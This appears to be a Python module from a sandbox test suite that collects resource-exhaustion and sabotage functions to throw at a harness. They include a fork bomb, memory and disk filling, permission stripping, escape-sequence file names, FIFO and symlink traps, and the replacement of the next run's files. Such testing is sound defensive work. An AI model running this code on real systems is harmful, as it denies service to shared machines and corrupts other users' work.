"""Attacks on the machine's resources, and on code that reads or removes a program's files."""

from __future__ import annotations

import mmap
import os
import socket
import time
from collections.abc import Callable
from pathlib import Path

from attacks import call
from burning import BURNING
from filling import FILLING
from identity import IDENTITY

MB = 10**6


def chmod() -> None:
    """Remove all permissions of the folder."""
    os.chmod(".", 0)


def inner_chmod() -> None:
    """Remove all permissions of an inner folder that contains a file."""
    os.makedirs("inner/most")
    os.chmod("inner", 0)


def fork_bomb() -> None:
    """Fork until the kernel refuses, and leave the processes running."""
    for _number in range(20_000):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except OSError:
            return


def shared_memory() -> None:
    """Fill shared memory, which no limit of a process counts."""
    kept = []
    for _number in range(400):
        kept.append(mmap.mmap(-1, 16 * MB))
        kept[-1].write(os.urandom(4096) * (16 * MB // 4096))
        time.sleep(0.005)


def memory_files() -> None:
    """Fill files in memory that are not mapped."""
    kept = []
    for _number in range(400):
        kept.append(call("memfd_create", b"x", 0))
        os.write(kept[-1], bytes(16 * MB))
        time.sleep(0.005)


def disk() -> None:
    """Fill the folder with files."""
    for number in range(2000):
        Path(f"file-{number}").write_bytes(bytes(MB))


def names() -> None:
    """Make ten thousand files, some with names that are not text."""
    for number in range(10_000):
        os.close(os.open(b"\xff\x1b]0;%d" % number, os.O_CREAT | os.O_WRONLY, 0o644))


def byte_name() -> None:
    """Make a file with a name that is not text."""
    os.close(os.open(b"\xff\xfe\x1b[31m", os.O_CREAT | os.O_WRONLY, 0o644))


def traps() -> None:
    """Make pipes and links, which a reader waits for or follows."""
    os.mkfifo("pipe")
    os.symlink("/proc/kmsg", "link")
    socket.socket(socket.AF_UNIX).bind("socket")


def hole() -> None:
    """Make a file larger than any disk."""
    with open("hole", "wb") as file:
        file.truncate(10**15)


def deep() -> None:
    """Make a thousand nested folders, the last without permissions."""
    top = os.getcwd()
    for _number in range(1000):
        os.mkdir("d")
        os.chdir("d")
    os.chmod(".", 0)
    os.chdir(top)


def survivor() -> None:
    """Leave a process running that continues to write."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(400):
                with open("later", "a") as file:
                    file.write(f"{number}\n")
                time.sleep(0.01)
        os._exit(0)


def fifo_next() -> None:
    """Leave a pipe in place of the next run's output file, and fail."""
    os.unlink("said.jsonl")
    os.mkfifo("said.jsonl")
    raise SystemExit(1)


def folder_next() -> None:
    """Leave a folder in place of the next run's program, and fail."""
    os.unlink("adversary.py")
    os.mkdir("adversary.py")
    raise SystemExit(1)


def chmod_next() -> None:
    """Remove the permissions of the folder for the next run, and fail."""
    os.chmod(".", 0)
    raise SystemExit(1)


def full_tmp() -> None:
    """Fill all memory for files, which a server may need."""
    for place in ("/tmp", "/dev/shm", "/run", "/trial"):
        try:
            with open(f"{place}/full", "wb") as file:
                while True:
                    file.write(bytes(MB))
        except OSError:
            continue


MISUSE: dict[str, Callable[[], None]] = {
    **BURNING,
    **FILLING,
    **IDENTITY,
    **{
        misuse.__name__: misuse
        for misuse in (
            *(chmod, inner_chmod, fork_bomb, shared_memory, memory_files, disk, names, byte_name),
            *(traps, hole, deep, survivor, fifo_next, folder_next, chmod_next, full_tmp),
        )
    },
}
